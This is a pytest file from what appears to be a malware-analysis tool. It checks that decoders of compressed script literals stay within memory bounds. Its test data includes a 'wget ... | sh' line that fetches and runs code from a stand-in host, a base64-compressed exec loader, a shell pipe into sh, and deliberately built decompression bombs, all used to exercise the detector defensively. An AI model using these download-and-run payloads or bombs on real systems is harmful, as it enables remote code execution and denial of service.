"""A compressed literal in an image's script or program is the image author's bytes: a few
hundred KB of it may inflate to gigabytes in the analyser. Each decoder of such literals reads
only a bounded prefix of what it inflates."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import tracemalloc
from collections.abc import Callable

import pytest

from detonate.detect.correlations.shell_text import analyse
from detonate.detect.provenance.literals import MAX_OUT, hidden_texts

LINE = b"wget -q -O- http://stage.invalid/x | sh\n"
CHUNK = LINE * (8 * 1024 * 1024 // len(LINE))  # 8 MiB
STREAMS = 16  # concatenated streams: 128 MiB inflated, each stream compressed once
BOUND = 48 * 1024 * 1024


def _bomb(compress: Callable[[bytes], bytes]) -> str:
    return base64.b64encode(compress(CHUNK) * STREAMS).decode()


def _peak(work: Callable[[], object]) -> tuple[object, int]:
    tracemalloc.start()
    try:
        result = work()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("compress", [bz2.compress, lzma.compress, gzip.compress])
def test_a_compressed_literal_in_a_program_inflates_to_a_bounded_prefix(
    compress: Callable[[bytes], bytes],
) -> None:
    code = f'import zlib, base64\nexec(decompress(b64decode("{_bomb(compress)}")))\n'
    texts, peak = _peak(lambda: hidden_texts(code))
    assert peak < BOUND, f"{peak / 2**20:.0f} MiB traced while decoding"
    assert isinstance(texts, list)
    stage = next(t for t in texts if t.startswith("wget"))  # the prefix is still read
    assert len(stage) <= MAX_OUT


def test_a_gzipped_base64_stage_on_a_shell_line_inflates_to_a_bounded_prefix() -> None:
    line = f"echo {_bomb(gzip.compress)} | base64 -d | gunzip | sh"
    hits, peak = _peak(lambda: analyse(line))
    assert peak < BOUND, f"{peak / 2**20:.0f} MiB traced while decoding"
    assert hits  # the decoded stage (a download piped to a shell) is still analysed
